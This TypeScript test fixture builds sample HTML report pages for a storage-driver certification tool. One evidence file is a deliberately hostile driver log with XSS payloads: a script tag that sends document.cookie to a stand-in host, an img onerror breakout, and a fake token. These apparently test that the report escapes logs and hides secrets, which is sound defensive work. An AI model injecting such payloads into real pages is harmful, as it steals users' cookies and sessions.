// SPDX-License-Identifier: Apache-2.0
import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { writeReportFiles } from "../../src/cli/write-report-files.ts";
import type { CaseResult } from "../../src/report/model.ts";
import {
  passedCases,
  sampleCase,
  samplePart,
  samplePlacement,
  sampleReport,
} from "../../src/report/report.test-data.ts";
import { troubledCases } from "../../src/report/troubled-cases.test-data.ts";

/** A token that must not reach the page, as a driver might log it. */
export const secret = "hunter2-hunter2-hunter2";

/** What a hostile driver logs. */
const hostileLog = `2026-11-21T05:40:12.100000000Z I1121 05:40:12.100000 1 main.go:12] "Starting"
2026-11-21T05:40:13.200000000Z <script>window.pwned = true; fetch("https://example.com/?" + document.cookie)</script>
2026-11-21T05:40:13.300000000Z </pre></details><img src=x onerror="window.pwned = true">
2026-11-21T05:40:14.400000000Z connecting with Authorization: Bearer ${secret} and password=${secret}
2026-11-21T05:40:15.500000000Z E1121 05:40:15.500000 1 node.go:88] "Volume is not here" volumeID="sw-3f3a9c"
`;

const texts: Readonly<Record<string, string>> = {
  "events.txt": `2026-11-21T05:40:12Z Normal Pod/writer Scheduled: Successfully assigned sw-a1b2c3/writer to sw-three-zones-worker3
2026-11-21T05:40:15Z Warning Pod/writer FailedMount: MountVolume.SetUp failed for volume "pvc-0c8e": rpc error: code = NotFound
`,
  "grpc-calls.txt": `05:40:13.201 /csi.v1.Controller/CreateVolume name="pvc-0c8e" OK in 812 ms
05:40:15.480 /csi.v1.Node/NodeStageVolume volume_id="sw-3f3a9c" NotFound in 3 ms
`,
  "nodes.txt":
    "sw-three-zones-worker   Ready   zone-a rack-a1\nsw-three-zones-worker3  Ready   zone-b rack-b1\n",
  "objects.json": `${JSON.stringify({ objects: [{ kind: "Pod", metadata: { name: "writer" } }] }, undefined, 2)}\n`,
  "rerun.txt":
    "seaworthy certify --case placement/disk-follows-pod --driver reference --cluster three-zones --keep\n",
  "logs/local-node-x7k2p.driver.log": hostileLog,
  "logs/local-controller-0.csi-provisioner.log": "2026-11-21T05:40:13.000000000Z I1121 provisioning\n".repeat(
    400,
  ),
};

/** A failed, an errored, a skipped and a passed case; the failed one keeps all kinds of evidence. */
async function failingCases(folder: string): Promise<CaseResult[]> {
  const [failed, ...others] = troubledCases();
  if (failed === undefined) return [];
  const paths = Object.keys(texts).map((name) => `evidence/${failed.id}/${name}`);
  for (const [name, text] of Object.entries(texts)) {
    const file = join(folder, "evidence", failed.id, name);
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, text);
  }
  return [{ ...failed, evidence: paths }, ...others];
}

/** Five hundred cases of ten areas; every fiftieth failed. */
function manyCases(): CaseResult[] {
  const areas = [
    "snapshot",
    "placement",
    "expansion",
    "block",
    "faults",
    "clone",
    "stats",
    "quota",
    "attach",
    "node",
  ];
  return Array.from({ length: 500 }, (_, n) => {
    const id = `${areas[n % areas.length] ?? ""}/case-number-${String(n)}`;
    const phases = [
      { name: "claim created → bound", durationMs: 400 + ((n * 7919) % 4000) },
      { name: "pod scheduled → Ready", durationMs: 2000 + ((n * 104_729) % 20_000) },
    ];
    if (n % 50 !== 7)
      return sampleCase({
        id,
        title: `Statement number ${String(n)} about a volume holds`,
        phases,
        durationMs: 5000 + ((n * 31) % 60_000),
      });
    return sampleCase({
      id,
      title: `Statement number ${String(n)} about a volume holds`,
      outcome: "failed",
      phases,
      failure: {
        message: `volume sw-${String(n)} is not where its pod is`,
        requirement: "topo/disk-follows-pod",
      },
      placements: [samplePlacement("after the move", 3, { backEndNode: "sw-three-zones-worker5" })],
    });
  });
}

/** Writes one of the pages to look at; returns the address of the page. */
export async function writeSamplePage(
  kind: "passing" | "partial" | "failing" | "large",
  folder: string,
): Promise<string> {
  await mkdir(folder, { recursive: true });
  const cases = {
    passing: passedCases,
    partial: () => samplePart.cases,
    failing: () => failingCases(folder),
    large: manyCases,
  }[kind];
  const part = kind === "partial" ? { run: samplePart.run } : {};
  await writeReportFiles(sampleReport({ ...part, cases: await cases() }), folder);
  return `file://${join(folder, "report.html")}`;
}
